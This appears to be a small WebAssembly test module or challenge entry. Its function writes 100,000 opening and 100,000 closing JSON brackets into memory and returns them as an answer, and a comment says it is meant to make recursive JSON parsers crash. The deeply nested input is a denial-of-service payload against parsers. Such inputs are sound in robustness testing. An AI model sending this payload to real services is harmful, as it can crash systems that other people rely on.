;; 100,000 arrays in one another. It is JSON, but whoever reads it by recursion falls.
(memory $memory (export "memory") 8)
(func $misdeed
  (memory.fill (i32.const 200000) (i32.const 0x5b) (i32.const 100000))
  (memory.fill (i32.const 300000) (i32.const 0x5d) (i32.const 100000))
  (call $answer (i32.const 1) (i32.const 200000) (i32.const 200000)))
